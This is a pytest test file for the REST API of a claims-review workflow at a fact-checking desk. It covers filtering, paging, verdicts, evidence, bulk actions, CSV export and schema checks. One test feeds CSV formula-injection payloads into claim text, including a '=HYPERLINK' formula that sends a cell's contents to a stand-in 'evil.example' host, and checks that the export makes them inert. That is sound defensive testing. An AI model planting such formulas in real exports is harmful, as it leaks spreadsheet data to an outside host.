from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from claims import workflow
from claims.models import Claim
from tests.api.conftest import CLAIM_KEYS, client_for
from tests.factories import ClaimFactory, UserFactory, rating, reviewed_claim

pytestmark = pytest.mark.django_db


def take(api):
    response = api.post("/api/v1/claims/next/")
    assert response.status_code == 200, response.data
    return response.data


def test_it_lists_claims_with_filters(api):
    hedged = ClaimFactory(category="hedged", score=0.8)
    ClaimFactory(category="attributed", score=0.4)

    response = api.get(f"/api/v1/claims/?article={hedged.article_id}&status=new")
    assert response.status_code == 200
    assert [c["id"] for c in response.data["results"]] == [hedged.pk]
    assert set(response.data) >= {"results", "next"}
    assert set(response.data["results"][0]) >= CLAIM_KEYS

    assert [c["id"] for c in api.get("/api/v1/claims/?min_score=0.5").data["results"]] == [
        hedged.pk
    ]
    assert len(api.get("/api/v1/claims/?category=hedged&category=attributed").data["results"]) == 2


def test_it_searches_and_filters_by_assignee(api, reviewer):
    ClaimFactory(text="The minister said grain exports doubled.", speaker="The minister")
    ClaimFactory(text="Officials said the port is open.")
    assert len(api.get("/api/v1/claims/?q=grain+minister").data["results"]) == 1
    taken = take(api)
    mine = api.get("/api/v1/claims/?assignee=me").data["results"]
    assert [c["id"] for c in mine] == [taken["id"]]
    assert api.get("/api/v1/claims/?assignee=rita").data["results"][0]["assignee"] == "rita"


def test_it_rejects_bad_filters_with_a_message(api):
    response = api.get("/api/v1/claims/?status=bogus&min_score=high")
    assert response.status_code == 400
    assert "status" in response.data and "min_score" in response.data


def test_it_pages_with_a_cursor(api):
    ClaimFactory.create_batch(7)
    first = api.get("/api/v1/claims/?page_size=5")
    assert len(first.data["results"]) == 5 and first.data["next"]
    second = api.get(first.data["next"])
    assert len(second.data["results"]) == 2 and second.data["next"] is None
    ids = [c["id"] for c in first.data["results"] + second.data["results"]]
    assert len(set(ids)) == 7


def many_claims_alike(count: int) -> set[int]:
    """`count` claims of one article with the same score and priority, as a large desk has
    thousands of (scores take a few values only)."""
    article = ClaimFactory().article
    Claim.objects.all().delete()
    Claim.objects.bulk_create(
        ClaimFactory.build(article=article, start=i, end=i + 1, score=0.6, priority=0.76)
        for i in range(count)
    )
    return set(Claim.objects.values_list("id", flat=True))


@pytest.mark.parametrize("ordering", ["", "&ordering=score", "&ordering=-priority,-score"])
def test_it_pages_through_more_than_a_thousand_claims_that_sort_alike(api, ordering):
    # The cursor counted its way through claims of one value and stopped counting at 1,000:
    # the pages after that came back again and again, and a client paging to the end never
    # got there.
    ids = many_claims_alike(1300)
    seen, link = [], f"/api/v1/claims/?page_size=200{ordering}"
    while link and len(seen) < 3000:
        page = api.get(link).json()
        seen += [claim["id"] for claim in page["results"]]
        link = page["next"]
    assert len(seen) == len(ids) and set(seen) == ids


def test_it_pages_back_through_claims_that_sort_alike(api):
    ids = many_claims_alike(1300)
    link = "/api/v1/claims/?page_size=200&ordering=score"
    for _ in range(10):
        page = api.get(link).json()
        if not page["next"]:
            break
        link = page["next"]
    seen = [claim["id"] for claim in page["results"]]
    for _ in range(10):
        if not (link := page["previous"]):
            break
        page = api.get(link).json()
        seen = [claim["id"] for claim in page["results"]] + seen
    assert seen == sorted(ids)


def test_it_orders_claims(api):
    a = ClaimFactory(score=0.3)
    b = ClaimFactory(score=0.9)
    ids = [c["id"] for c in api.get("/api/v1/claims/?ordering=-score").data["results"]]
    assert ids == [b.pk, a.pk]


def test_it_lists_claims_in_constant_queries(api, django_assert_max_num_queries):
    for _ in range(40):
        claim = ClaimFactory()
    workflow.claim_take_next(reviewer=UserFactory(role="reviewer"))
    Claim.objects.filter(pk=claim.pk)
    with django_assert_max_num_queries(4):
        response = api.get("/api/v1/claims/")
    assert len(response.data["results"]) == 40


def test_it_takes_a_claim_with_its_history_in_constant_queries(api, django_assert_max_num_queries):
    # A claim released after research comes back to the queue with its evidence and events.
    claim = ClaimFactory()
    earlier = UserFactory(role="reviewer")
    workflow.claim_take_next(reviewer=earlier)
    for n in range(5):
        workflow.evidence_add(
            claim=Claim.objects.get(pk=claim.pk),
            actor=earlier,
            url=f"https://records.example.org/{n}",
            stance="refutes",
            title=f"Record {n}",
        )
    workflow.claim_release(claim=Claim.objects.get(pk=claim.pk), actor=earlier)
    with django_assert_max_num_queries(14):  # 28 when evidence and events came one by one
        taken = take(api)
    assert taken["id"] == claim.pk
    assert len(taken["evidence"]) == 5 and len(taken["history"]) == 8


def test_it_shows_a_claim_with_its_context_and_history(api, django_assert_max_num_queries):
    claim = ClaimFactory()
    other = ClaimFactory(fingerprint=claim.fingerprint)
    taken = take(api)
    with django_assert_max_num_queries(12):
        response = api.get(f"/api/v1/claims/{taken['id']}/")
    data = response.data
    assert data["context"]["sentence"] == data["text"]
    assert data["history"][0]["action"] == "take"
    assert data["same_claim_elsewhere"] == [other.pk if taken["id"] == claim.pk else claim.pk]


def test_it_sends_a_claim_without_its_articles_stored_page(api):
    # The page can be megabytes; the claim's context needs the article's text only.
    ClaimFactory(article__raw_html="<html><body>The page</body></html>")
    with CaptureQueriesContext(connection) as queries:
        taken = take(api)
        shown = api.get(f"/api/v1/claims/{taken['id']}/")
    assert shown.status_code == 200 and shown.data["context"]["sentence"] == taken["text"]
    assert not [q["sql"] for q in queries.captured_queries if "raw_html" in q["sql"]]


def test_it_answers_204_when_the_queue_is_empty(api):
    assert api.post("/api/v1/claims/next/").status_code == 204


def test_it_walks_a_claim_from_queue_to_claimreview(api, editor_api):
    ClaimFactory(text="The mayor said the dam was inspected in 2024.")
    claim = take(api)

    evidence = api.post(
        f"/api/v1/claims/{claim['id']}/evidence/",
        {
            "url": "https://records.example.org/dam",
            "title": "Inspection log",
            "publisher": "County records",
            "stance": "refutes",
        },
        format="json",
    )
    assert evidence.status_code == 201, evidence.data
    verdict = api.post(
        f"/api/v1/claims/{claim['id']}/verdict/",
        {
            "rating": "false",
            "summary": "No inspection took place in 2024.",
            "version": claim["version"],
            "claim_reviewed": "Dam inspected in 2024",
        },
        format="json",
    )
    assert verdict.status_code == 200, verdict.data
    submitted = api.post(f"/api/v1/claims/{claim['id']}/submit/", {}, format="json")
    assert submitted.data["status"] == "reviewed"
    assert api.post(f"/api/v1/claims/{claim['id']}/publish/").status_code == 403
    published = editor_api.post(f"/api/v1/claims/{claim['id']}/publish/", {}, format="json")
    assert published.status_code == 200 and published.data["status"] == "published"

    review = client_for().get(f"/api/v1/claims/{claim['id']}/claimreview/").data
    assert review["@type"] == "ClaimReview"
    assert review["claimReviewed"] == "Dam inspected in 2024"
    assert review["reviewRating"]["alternateName"] == "False"
    assert review["itemReviewed"]["author"]["name"] == "The mayor"
    assert review["citation"][0]["url"] == "https://records.example.org/dam"

    listed = client_for().get("/api/v1/claimreviews/").data
    assert listed["count"] == 1 and listed["results"][0]["url"] == review["url"]
    page = client_for().get(f"/reviews/{claim['id']}/")
    assert page.status_code == 200 and b"application/ld+json" in page.content


def test_it_answers_a_stale_verdict_with_409_and_the_current_claim(api):
    ClaimFactory()
    claim = take(api)
    url = f"/api/v1/claims/{claim['id']}/verdict/"
    body = {"rating": "false", "summary": "First.", "version": claim["version"]}
    assert api.post(url, body, format="json").status_code == 200
    stale = api.post(url, {**body, "summary": "Second."}, format="json")
    assert stale.status_code == 409
    assert stale.data["current"]["verdict"]["summary"] == "First."
    assert stale.data["current"]["version"] == claim["version"] + 1


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"rating": "bogus", "summary": "x", "version": 1}, "rating"),
        ({"rating": "false", "version": 1}, "summary"),
        ({"rating": "false", "summary": "x"}, "version"),
    ],
)
def test_it_rejects_a_bad_verdict_with_field_messages(api, body, field):
    ClaimFactory()
    claim = take(api)
    response = api.post(f"/api/v1/claims/{claim['id']}/verdict/", body, format="json")
    assert response.status_code == 400 and field in response.data


def test_it_accepts_a_rating_by_id(api):
    ClaimFactory()
    claim = take(api)
    response = api.post(
        f"/api/v1/claims/{claim['id']}/verdict/",
        {"rating": rating("true").pk, "summary": "Yes.", "version": claim["version"]},
        format="json",
    )
    assert response.status_code == 200 and response.data["rating"] == "true"


def test_it_rejects_bad_evidence(api):
    ClaimFactory()
    claim = take(api)
    response = api.post(
        f"/api/v1/claims/{claim['id']}/evidence/", {"url": "nope", "stance": "maybe"}, format="json"
    )
    assert response.status_code == 400 and {"url", "stance"} <= set(response.data)


def test_it_removes_evidence(api):
    ClaimFactory()
    claim = take(api)
    evidence = api.post(
        f"/api/v1/claims/{claim['id']}/evidence/",
        {"url": "https://a.example.org", "stance": "context"},
        format="json",
    )
    url = f"/api/v1/claims/{claim['id']}/evidence/{evidence.data['id']}/"
    # The new source's Location can be read (it answered 405: the address took DELETE only).
    assert evidence["Location"].endswith(url)
    assert api.get(url).data == evidence.data
    assert api.delete(url).status_code == 204
    assert api.delete(url).status_code == 404
    assert api.get(url).status_code == 404


def test_it_refuses_actions_on_the_wrong_state(api):
    claim = ClaimFactory()
    response = api.post(f"/api/v1/claims/{claim.pk}/submit/", {}, format="json")
    assert response.status_code == 409 and "in review" in response.data["detail"]
    assert api.post("/api/v1/claims/999999/submit/", {}, format="json").status_code == 404


def test_it_dismisses_and_reopens(api, editor_api):
    claim = ClaimFactory()
    missing = api.post(f"/api/v1/claims/{claim.pk}/dismiss/", {}, format="json")
    assert missing.status_code == 400 and "reason" in missing.data
    done = api.post(f"/api/v1/claims/{claim.pk}/dismiss/", {"reason": "Opinion."}, format="json")
    assert done.data["status"] == "dismissed"
    reopen = editor_api.post(f"/api/v1/claims/{claim.pk}/reopen/", {"reason": "x"}, format="json")
    assert reopen.status_code == 409


def test_an_editor_sends_a_submitted_verdict_back_with_a_reason(api, editor_api, reviewer):
    claim = reviewed_claim(reviewer)
    url = f"/api/v1/claims/{claim.pk}/send-back/"
    own = api.post(url, {"reason": "Weak sources."}, format="json")
    assert own.status_code == 403 and own.data["code"] == "forbidden"
    for body in ({}, {"reason": "   "}, {"reason": "\u200b"}, {"reason": "x" * 5001}):
        refused = editor_api.post(url, body, format="json")
        assert refused.status_code == 400 and list(refused.data) == ["reason"], body
    stale = editor_api.post(url, {"reason": "Weak.", "version": claim.version - 1}, format="json")
    assert stale.status_code == 409 and stale.data["code"] == "conflict"
    assert stale.data["current"]["status"] == "reviewed"

    done = editor_api.post(
        url, {"reason": " Weak sources. ", "version": claim.version}, format="json"
    )
    assert done.status_code == 200, done.data
    assert done.data["status"] == "in_review" and done.data["assignee"] == reviewer.username
    assert done.data["version"] == claim.version + 1
    assert done.data["verdict"]["summary"] == "Records show no such thing."
    event = done.data["history"][-1]
    assert event["action"] == "send_back" and event["payload"]["reason"] == "Weak sources."
    # Back in the reviewer's own list, and not a second time.
    mine = api.get(f"/api/v1/claims/?assignee={reviewer.username}&status=in_review")
    assert [c["id"] for c in mine.data["results"]] == [claim.pk]
    again = editor_api.post(url, {"reason": "Weak sources."}, format="json")
    assert again.status_code == 409 and again.data["code"] == "invalid_state"


def test_it_runs_bulk_actions_with_per_item_results(editor_api, reviewer):
    first, second = ClaimFactory(), ClaimFactory()
    response = editor_api.post(
        "/api/v1/claims/bulk/",
        {"action": "assign", "ids": [first.pk, second.pk, 999999], "assignee": "rita"},
        format="json",
    )
    results = response.data["results"]
    assert [r["ok"] for r in results] == [True, True, False]
    assert Claim.objects.filter(assignee=reviewer).count() == 2

    response = editor_api.post(
        "/api/v1/claims/bulk/", {"action": "dismiss", "ids": [first.pk]}, format="json"
    )
    assert response.status_code == 400 and "reason" in response.data


def test_a_bulk_action_leaves_a_claim_changed_since_it_was_seen(editor_api, reviewer):
    seen, other = ClaimFactory(), ClaimFactory()
    versions = {str(seen.pk): seen.version, str(other.pk): other.version}
    taken = workflow.claim_take_next(reviewer=reviewer)  # meanwhile, Rita takes one
    assert taken.pk in (seen.pk, other.pk)

    response = editor_api.post(
        "/api/v1/claims/bulk/",
        {
            "action": "dismiss",
            "ids": [seen.pk, other.pk],
            "reason": "opinion",
            "versions": versions,
        },
        format="json",
    )

    results = {r["id"]: r for r in response.data["results"]}
    assert results[taken.pk]["ok"] is False and results[taken.pk]["conflict"] is True
    assert results[taken.pk]["status"] == "in_review"
    assert results[taken.pk]["version"] == taken.version
    assert sum(r["ok"] for r in results.values()) == 1
    taken.refresh_from_db()
    assert (taken.status, taken.assignee) == ("in_review", reviewer)


def test_a_reviewer_renews_the_lease_of_a_claim_they_hold(api, reviewer):
    ClaimFactory()
    claim = workflow.claim_take_next(reviewer=reviewer)
    Claim.objects.filter(pk=claim.pk).update(lease_expires_at=timezone.now() + timedelta(minutes=1))

    response = api.post(f"/api/v1/claims/{claim.pk}/renew/", {}, format="json")

    assert response.status_code == 200, response.data
    assert set(response.data) >= CLAIM_KEYS
    claim.refresh_from_db()
    assert claim.lease_expires_at > timezone.now() + timedelta(minutes=29)
    assert response.data["version"] == claim.version == 2
    other = client_for(UserFactory(username="otto", role="reviewer"))
    assert other.post(f"/api/v1/claims/{claim.pk}/renew/").status_code == 403


def test_a_stale_release_or_assign_is_a_conflict(editor_api, reviewer):
    ClaimFactory()
    claim = workflow.claim_take_next(reviewer=reviewer)
    for action, body in (("release", {}), ("assign", {"assignee": "rita"})):
        response = editor_api.post(
            f"/api/v1/claims/{claim.pk}/{action}/", {**body, "version": 1}, format="json"
        )
        assert response.status_code == 409, action
    claim.refresh_from_db()
    assert (claim.status, claim.version) == ("in_review", 2)


def test_bulk_versions_are_keyed_by_claim_id(editor_api):
    claim = ClaimFactory()
    response = editor_api.post(
        "/api/v1/claims/bulk/",
        {"action": "release", "ids": [claim.pk], "versions": {"first": 1}},
        format="json",
    )
    assert response.status_code == 400 and "versions" in response.data


def test_it_exports_the_filtered_claims_as_csv(api):
    ClaimFactory(category="hedged", text='He said "yes", then left.')
    ClaimFactory(category="attributed")
    response = api.get("/api/v1/claims/export.csv?category=hedged")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["id", "status", "category"]
    assert len(rows) == 2 and rows[1][6] == 'He said "yes", then left.'


def test_the_csv_export_gives_times_as_the_api_does(api, settings):
    # It wrote "2026-12-01 16:57:47.170294+00:00" where the API gives ISO 8601 with a Z.
    settings.FACTCHECK_TIME_ZONE = "America/New_York"
    claim = ClaimFactory()
    response = api.get("/api/v1/claims/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    created = api.get(f"/api/v1/claims/{claim.pk}/").data["created_at"]
    assert rows[0]["created_at"] == created and created.endswith("Z")


def test_the_stats_answer_what_the_schema_describes(api):
    ClaimFactory()
    schema = api.get("/api/schema/?format=json").json()
    stats = schema["paths"]["/api/v1/stats/"]["get"]["responses"]["200"]
    assert stats["content"]["application/json"]["schema"]["$ref"].endswith("/Stats")
    described = schema["components"]["schemas"]["Stats"]["properties"]
    assert set(api.get("/api/v1/stats/").json()) == set(described)


def test_it_reports_stats(api):
    ClaimFactory(category="hedged")
    data = api.get("/api/v1/stats/").data
    assert data["claims_by_status"] == {"new": 1}
    assert data["claims_by_category"] == {"hedged": 1}
    assert data["backlog"]["new"] == 1 and data["backlog"]["oldest_age_seconds"] >= 0


def test_it_serves_the_openapi_schema_and_docs(api):
    schema = api.get("/api/schema/")
    assert schema.status_code == 200 and b"/api/v1/claims/{id}/verdict/" in schema.content
    assert api.get("/api/docs/").status_code == 200


def test_the_schema_says_what_the_api_answers(api):
    schema = api.get("/api/schema/?format=json").json()
    paths, components = schema["paths"], schema["components"]["schemas"]
    # The bulk endpoint answers per-item results, not a claim.
    bulk = paths["/api/v1/claims/bulk/"]["post"]["responses"]["200"]
    assert bulk["content"]["application/json"]["schema"]["$ref"].endswith("/BulkResponse")
    # Errors are documented where they happen.
    verdict = paths["/api/v1/claims/{id}/verdict/"]["post"]["responses"]
    assert {"400", "401", "403", "404", "409"} <= set(verdict)
    assert verdict["409"]["content"]["application/json"]["schema"]["$ref"].endswith("/Conflict")
    assert "403" not in paths["/api/v1/ratings/"]["get"]["responses"]  # public
    assert "429" in paths["/api/v1/articles/"]["post"]["responses"]  # throttled writes
    assert "429" not in paths["/api/v1/claims/"]["get"]["responses"]
    # Fields that come back null say so.
    assert components["Claim"]["properties"]["assignee"]["nullable"] is True
    verdict = components["ClaimDetail"]["properties"]["verdict"]["oneOf"]
    assert verdict[0]["$ref"].endswith("/Verdict") and verdict[1]["enum"] == [None]
    # The CSV export: its media type, its filters, an id without a dot.
    export = paths["/api/v1/claims/export.csv"]["get"]
    assert export["operationId"] == "claims_export_csv"
    assert "text/csv" in export["responses"]["200"]["content"]
    assert {"status", "category", "assignee", "q"} <= {p["name"] for p in export["parameters"]}
    params = {p["name"]: p for p in paths["/api/v1/claims/"]["get"]["parameters"]}
    assert params["article"]["schema"] == {"type": "integer", "minimum": 1, "maximum": 2**63 - 1}
    evidence = paths["/api/v1/claims/{id}/evidence/{evidence_id}/"]["delete"]
    assert {p["name"]: p["schema"]["type"] for p in evidence["parameters"]}["evidence_id"] == (
        "integer"
    )


def test_the_schema_documents_the_errors_a_client_meets_on_the_way(api):
    schema = api.get("/api/schema/?format=json").json()
    paths, components = schema["paths"], schema["components"]["schemas"]
    for path in ("/api/v1/articles/", "/api/v1/claims/", "/api/v1/feeds/", "/api/v1/jobs/"):
        assert "404" in paths[path]["get"]["responses"], path  # a page past the end
    assert "415" in paths["/api/v1/auth/token/"]["post"]["responses"]  # a form, not JSON
    # Found by generating requests from the schema (schemathesis): answers it left out.
    for action in ("take", "restore", "send-back"):  # a stale version, or a wrong state
        assert "409" in paths[f"/api/v1/claims/{{id}}/{action}/"]["post"]["responses"]
    assert "401" in paths["/api/v1/auth/token/"]["delete"]["responses"]  # no token to revoke
    # A blank reason or summary is refused: the request bodies say so.
    assert components["ReasonRequest"]["properties"]["reason"]["minLength"] == 1
    assert components["VerdictInputRequest"]["properties"]["summary"]["minLength"] == 1
    for path in ("/api/v1/claimreviews/", "/api/v1/claims/{id}/claimreview/"):
        assert "application/ld+json" in paths[path]["get"]["responses"]["404"]["content"]
    page = paths["/api/v1/claimreviews/"]["get"]["responses"]["200"]["content"]
    assert set(page["application/json"]["schema"]["required"]) == {
        "count",
        "next",
        "previous",
        "results",
    }
    assert "415" in paths["/api/v1/claims/{id}/evidence/"]["post"]["responses"]
    for path in ("/api/v1/articles/{id}/retry/", "/api/v1/feeds/{id}/poll/"):
        conflict = paths[path]["post"]["responses"]["409"]
        assert conflict["content"]["application/json"]["schema"]["$ref"].endswith("/Error")
    # Addresses in any script are IRIs; an article from pasted text has no source URL.
    assert components["Evidence"]["properties"]["url"]["format"] == "iri"
    assert "format" not in components["Article"]["properties"]["source_url"]
    assert '"format": "uri"' not in json.dumps(schema)


def test_the_schema_documents_what_any_request_may_meet(api):
    # Found by schemathesis: `?format=x` (or /claims/0.5/, a format suffix) is a 400 on every
    # operation; a stale token sent to a public operation is a 401; `renew/` conflicts.
    schema = api.get("/api/schema/?format=json").json()
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            assert "400" in operation["responses"], (method, path)
            assert "401" in operation["responses"], (method, path)
    assert "409" in schema["paths"]["/api/v1/claims/{id}/renew/"]["post"]["responses"]
    assert api.get("/api/v1/ratings/?format=x").status_code == 400
    assert api.get("/api/v1/claims/0.5/").status_code == 400


def test_min_score_is_a_score_from_0_to_1(api):
    schema = api.get("/api/schema/?format=json").json()
    (parameter,) = [
        p for p in schema["paths"]["/api/v1/claims/"]["get"]["parameters"]
        if p["name"] == "min_score"
    ]  # fmt: skip
    assert (parameter["schema"]["minimum"], parameter["schema"]["maximum"]) == (0, 1)
    refused = api.get("/api/v1/claims/?min_score=1.5")
    assert refused.status_code == 400 and "min_score" in refused.json()
    assert api.get("/api/v1/claims/?min_score=0.5").status_code == 200


def test_the_api_answers_the_errors_the_schema_documents(api):
    assert api.get("/api/v1/articles/?page=999").status_code == 404
    assert api.get("/api/v1/claims/?cursor=abc").status_code == 404
    form = api.post("/api/v1/auth/token/", "username=a&password=b",
                    content_type="application/x-www-form-urlencoded")  # fmt: skip
    assert form.status_code == 415


@pytest.mark.parametrize(
    "component",
    [
        *["Claim", "ClaimDetail", "Article", "ArticleDetail", "IngestionJob", "Rating"],
        *["Verdict", "Stats", "Token"],
    ],
)
def test_the_schema_says_every_field_of_a_response_is_there(api, component):
    # Fields such as a claim's status or an article's title always come back; a client
    # generated from the schema made them optional, as if they could be missing.
    schema = api.get("/api/schema/?format=json").json()["components"]["schemas"][component]
    assert set(schema["required"]) == set(schema["properties"])


def test_a_client_may_ask_for_the_export_as_text_csv(api):
    ClaimFactory()
    response = api.get("/api/v1/claims/export.csv", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    for query in ("?min_score=abc", "?format=csv&min_score=abc"):
        bad = api.get(f"/api/v1/claims/export.csv{query}", HTTP_ACCEPT="text/csv")
        assert bad.status_code == 400
        assert bad["Content-Type"] == "application/json"  # what the body is
        assert "min_score" in json.loads(bad.content)


def test_has_verdict_takes_true_or_false_only(api):
    ClaimFactory()
    assert api.get("/api/v1/claims/?has_verdict=false").json()["results"]
    response = api.get("/api/v1/claims/?has_verdict=yes")
    assert response.status_code == 400 and "has_verdict" in response.json()


def test_a_stale_bump_is_a_conflict(editor_api):
    claim = ClaimFactory()
    url = f"/api/v1/claims/{claim.pk}/bump/"
    first = editor_api.post(url, {"amount": 0.1, "version": claim.version}, format="json")
    assert first.status_code == 200
    response = editor_api.post(url, {"amount": 0.1, "version": claim.version}, format="json")
    assert response.status_code == 409 and response.json()["code"] == "conflict"


def test_a_bulk_assign_to_an_unknown_user_names_the_field(editor_api):
    claim = ClaimFactory()
    response = editor_api.post(
        "/api/v1/claims/bulk/",
        {"action": "assign", "ids": [claim.pk], "assignee": "nobody-here"},
        format="json",
    )
    assert response.status_code == 400 and "assignee" in response.json()


def test_the_api_docs_load_their_assets_locally(api):
    page = api.get("/api/docs/").content.decode()
    assert "cdn.jsdelivr.net" not in page and "/static/drf_spectacular_sidecar/" in page


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("get", "/api/v1/claims/?assignee=²", None),
        ("get", "/api/v1/claims/export.csv?assignee=²", None),
        ("get", "/api/v1/claims/?article=1e30", None),
        ("get", "/api/v1/claims/?article=99999999999999999999", None),
        ("get", "/api/v1/articles/?feed=1e30", None),
        ("get", "/api/v1/claims/abc/claimreview/", None),
        ("post", "/api/v1/claims/bulk/", {"action": "release", "ids": [99999999999999999999]}),
        ("post", "/api/v1/claims/bulk/", {"action": "assign", "ids": [1], "assignee": "²"}),
    ],
)
def test_it_answers_odd_input_without_a_server_error(api, method, path, body):
    ClaimFactory()
    response = getattr(api, method)(path, body, format="json")
    assert response.status_code in (200, 400, 404), response.status_code


def test_it_rejects_an_odd_rating_or_assignee_with_a_field_message(api, editor_api):
    claim = ClaimFactory()
    taken = take(api)
    verdict = api.post(
        f"/api/v1/claims/{taken['id']}/verdict/",
        {"rating": "²", "summary": "x", "version": 1},
        format="json",
    )
    assert verdict.status_code == 400 and "rating" in verdict.data
    assign = editor_api.post(f"/api/v1/claims/{claim.pk}/assign/", {"assignee": "²"}, format="json")
    assert assign.status_code == 400 and "assignee" in assign.data


def test_next_takes_from_one_article_when_asked(api):
    ClaimFactory(priority=0.9)
    wanted = ClaimFactory(priority=0.1)
    response = api.post("/api/v1/claims/next/", {"article": wanted.article_id}, format="json")
    assert response.status_code == 200 and response.data["id"] == wanted.pk
    response = api.post("/api/v1/claims/next/", {"article": wanted.article_id}, format="json")
    assert response.status_code == 204
    response = api.post("/api/v1/claims/next/", {"article": "abc"}, format="json")
    assert response.status_code == 400 and "article" in response.data


def test_the_schema_validates_without_warnings(tmp_path):
    from django.core.management import call_command

    # --fail-on-warn: an endpoint drf-spectacular cannot describe is an error, not a guess.
    call_command("spectacular", "--validate", "--fail-on-warn", "--file", str(tmp_path / "s.yaml"))
    assert "/api/v1/claims/bulk/" in (tmp_path / "s.yaml").read_text()


def test_a_client_may_ask_for_claimreview_as_json_ld(api, editor_api):
    from tests.factories import reviewed_claim

    claim = reviewed_claim(UserFactory(username="rev2", role="reviewer"))
    editor_api.post(f"/api/v1/claims/{claim.pk}/publish/", {}, format="json")
    for path in (f"/api/v1/claims/{claim.pk}/claimreview/", "/api/v1/claimreviews/"):
        response = api.get(path, HTTP_ACCEPT="application/ld+json")
        assert response.status_code == 200, path
        assert response["Content-Type"].startswith("application/ld+json"), path


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(api):
    # A claim opening with "=HYPERLINK(…)" ran as a formula when the export was opened.
    ClaimFactory(text='=HYPERLINK("https://evil.example/?"&A1,"Click") officials said so.')
    ClaimFactory(text="-5 degrees, the forecasters said.", speaker="@weather")
    ClaimFactory(text="+1 more, he said.", speaker="\tTab")
    # An import that trims spaces would see a formula.
    ClaimFactory(text=' \n=HYPERLINK("https://evil.example/") he said.', speaker=" @x")
    response = api.get("/api/v1/claims/export.csv?ordering=id")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row if cell]
    assert not [
        c for c in cells if c.lstrip()[:1] in tuple("=+-@\t\r") and not c.lstrip("-").isdigit()
    ]
    texts = sorted(row[6] for row in rows[1:])
    assert any(text.startswith("'=HYPERLINK(") for text in texts)
    assert "'-5 degrees, the forecasters said." in texts  # kept, readable, but inert


def test_a_username_made_of_digits_is_that_user(editor_api, reviewer):
    # "2" was read as user id 2: the claim went to someone else.
    named = UserFactory(username=str(reviewer.pk), role="reviewer")
    claim = ClaimFactory()
    response = editor_api.post(
        f"/api/v1/claims/{claim.pk}/assign/", {"assignee": str(reviewer.pk)}, format="json"
    )
    assert response.status_code == 200 and response.data["assignee"] == named.username
    Claim.objects.filter(pk=claim.pk).update(assignee=named)
    listed = editor_api.get(f"/api/v1/claims/?assignee={named.username}").json()["results"]
    assert [c["id"] for c in listed] == [claim.pk]
    other = ClaimFactory(assignee=reviewer)
    by_id = editor_api.post(
        f"/api/v1/claims/{other.pk}/assign/", {"assignee": str(named.pk)}, format="json"
    )
    assert by_id.data["assignee"] == named.username  # an id still works when no name matches

    named.is_active = False  # left the desk: "<digits>" names nobody now, not user <digits>
    named.save()
    third = ClaimFactory()
    gone = editor_api.post(
        f"/api/v1/claims/{third.pk}/assign/", {"assignee": str(reviewer.pk)}, format="json"
    )
    assert gone.status_code == 400 and "assignee" in gone.data
    assert Claim.objects.get(pk=third.pk).assignee is None


@pytest.mark.parametrize("path", ["/api/v1/claims/next", "/api/v1/auth/token", "/api/v1/stats"])
def test_a_path_without_its_trailing_slash_is_answered(api, path):
    # POST claims/next gave a 500 (DEBUG) or a redirect that dropped the body.
    method = api.get if path.endswith("stats") else api.post
    response = method(path, {}, format="json")
    assert response.status_code in (200, 204, 400), response.status_code


def test_the_csv_export_given_with_a_trailing_slash_is_the_export(api):
    # It read as claim "export" in the format "csv": a 400 about an unknown format.
    ClaimFactory(category="hedged")
    response = api.get("/api/v1/claims/export.csv/?category=hedged")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert len(b"".join(response.streaming_content).decode().splitlines()) == 2


def test_a_change_that_changes_nothing_leaves_the_version_alone(editor_api, reviewer):
    # Each needless version bump turned other reviewers' next save into a 409.
    claim = ClaimFactory()
    bump = editor_api.post(f"/api/v1/claims/{claim.pk}/bump/", {"amount": 0}, format="json")
    assert bump.status_code == 400 and bump.json() == {"amount": ["A bump of 0 changes nothing."]}

    url = f"/api/v1/claims/{claim.pk}/assign/"
    first = editor_api.post(url, {"assignee": reviewer.username}, format="json").json()
    Claim.objects.filter(pk=claim.pk).update(lease_expires_at=None)
    again = editor_api.post(url, {"assignee": reviewer.username}, format="json")
    assert again.status_code == 200
    claim.refresh_from_db()
    assert claim.version == first["version"] and claim.events.count() == 1
    assert claim.lease_expires_at is not None  # the lease is renewed all the same

    twice = editor_api.post(
        "/api/v1/claims/bulk/",
        {"action": "release", "ids": [claim.pk, claim.pk]},
        format="json",
    )
    assert [result["id"] for result in twice.json()["results"]] == [claim.pk]
    assert claim.events.count() == 2


def test_a_source_given_twice_names_the_url_field(api):
    ClaimFactory()
    claim = take(api)
    url = f"/api/v1/claims/{claim['id']}/evidence/"
    body = {"url": "https://a.example.org/report", "stance": "context"}
    assert api.post(url, body, format="json").status_code == 201
    again = api.post(url, {**body, "url": "HTTPS://A.example.org/report"}, format="json")
    assert again.status_code == 400
    assert again.json() == {"url": ["This source is already in the claim's evidence."]}


def test_a_dismissed_claim_is_put_back_in_the_queue(api):
    claim = ClaimFactory()
    api.post(f"/api/v1/claims/{claim.pk}/dismiss/", {"reason": "Opinion."}, format="json")
    stale = api.post(f"/api/v1/claims/{claim.pk}/restore/", {"version": 1}, format="json")
    assert stale.status_code == 409 and stale.data["current"]["status"] == "dismissed"

    response = api.post(
        f"/api/v1/claims/{claim.pk}/restore/", {"reason": "A factual claim."}, format="json"
    )

    assert response.status_code == 200 and response.data["status"] == "new"
    assert response.data["history"][-1]["action"] == "restore"
    again = api.post(f"/api/v1/claims/{claim.pk}/restore/", {}, format="json")
    assert again.status_code == 409 and "Only a dismissed claim" in again.data["detail"]


def test_a_bulk_dismissal_is_undone_in_bulk(api):
    claims = ClaimFactory.create_batch(3)
    ids = [claim.pk for claim in claims]
    dismissal = {"action": "dismiss", "ids": ids, "reason": "Oops."}
    api.post("/api/v1/claims/bulk/", dismissal, format="json")
    assert set(Claim.objects.values_list("status", flat=True)) == {"dismissed"}

    response = api.post(
        "/api/v1/claims/bulk/", {"action": "restore", "ids": [*ids, claims[0].pk]}, format="json"
    )

